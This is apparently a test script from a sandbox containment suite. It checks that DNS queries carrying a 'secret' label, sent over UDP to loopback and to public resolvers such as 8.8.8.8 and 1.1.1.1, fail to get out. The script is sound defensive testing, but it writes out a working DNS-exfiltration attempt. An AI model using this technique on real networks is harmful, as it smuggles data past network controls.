# tries: carry a secret out in questions about names, over UDP
# expect: exit 0
# bare: escapes
import socket

from probe import fact, finish, must_fail

question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x00\x00\x01\x00\x01"
targets = [("127.0.0.1", int(fact("udp")))]
if fact("ws") == "/workspace":
    # Only from inside of a box: nobody's resolver is bothered by a bare run.
    targets += [("127.0.0.53", 53), ("8.8.8.8", 53), ("1.1.1.1", 53), ("192.0.2.1", 53)]


def ask(target):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as outside:
        outside.sendto(question, target)


def listened(target):
    # Sent is not yet received: on a loopback of its own, nobody is there to answer.
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as outside:
        outside.connect(target)
        outside.settimeout(3)
        outside.send(question)
        outside.recv(512)


for target in targets:
    if target[0].startswith("127."):
        must_fail(f"{target} answered", lambda: listened(target))
    else:
        must_fail(str(target), lambda: ask(target))
finish()
